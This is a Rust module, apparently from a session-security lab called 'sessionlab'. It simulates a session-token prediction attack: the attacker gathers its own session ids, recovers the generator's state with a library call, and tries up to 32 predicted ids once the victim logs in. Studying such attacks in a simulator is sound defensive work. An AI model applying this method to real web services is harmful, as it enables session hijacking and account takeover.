//! Token prediction: the attacker opens sessions of its own, recovers the generator's state
//! from the ids it was given, predicts the next ones, and tries them once the victim has
//! logged in. Uses the same predictors as `sessionlab predict`.

use sessionlab_core::token::recovery::{Hints, recover_auto};

use super::{Attack, play_with, use_stolen_id};
use crate::target::Target;
use crate::world::{Step, World};

/// The predictor.
pub struct TokenPrediction;

impl Attack for TokenPrediction {
    fn name(&self) -> &'static str {
        "token-prediction"
    }

    fn summary(&self) -> &'static str {
        "recovers the id generator's state from its own ids and predicts the victim's"
    }

    fn play<T: Target>(&self, w: &mut World<T>, steps: &[Step]) {
        // As many of its own ids as the models need, up to a few: three for the generators
        // that give themselves away in one or two, then up to MAX_OBSERVED (V8 needs four).
        let mut observed = Vec::new();
        let mut predicted = Vec::new();
        for attempt in 1..=MAX_OBSERVED {
            observed.extend(w.attacker_fresh_session());
            if attempt >= 3 {
                predicted = predict_next(&observed, 8);
                if !predicted.is_empty() {
                    break;
                }
            }
        }
        w.note(format_args!(
            "attacker observes {} of its own ids and predicts {} next ones",
            observed.len(),
            predicted.len()
        ));
        play_with(w, steps, |w, step| {
            if matches!(step, Step::Login) {
                for id in &predicted {
                    use_stolen_id(w, id);
                }
            }
        });
    }
}

/// The most sessions the attacker opens to observe ids.
const MAX_OBSERVED: usize = 6;

/// Every value the next `count` ids may take, by whichever recovery model fits and is
/// confirmed (`sessionlab predict --generator auto`): one per id where the model is certain,
/// a few where it knows the state but not the position (V8 before a cache refill, up to
/// MAX_GUESSES in all); empty when no model fits.
fn predict_next(observed: &[String], count: usize) -> Vec<String> {
    let Ok(report) = recover_auto(observed, &Hints::default()) else {
        return Vec::new();
    };
    let mut guesses: Vec<String> = Vec::new();
    for id in report.recovered.candidates(count).into_iter().flatten() {
        if !guesses.contains(&id) {
            guesses.push(id);
        }
    }
    guesses.truncate(MAX_GUESSES);
    guesses
}

/// The most predicted ids the attacker tries.
const MAX_GUESSES: usize = 32;
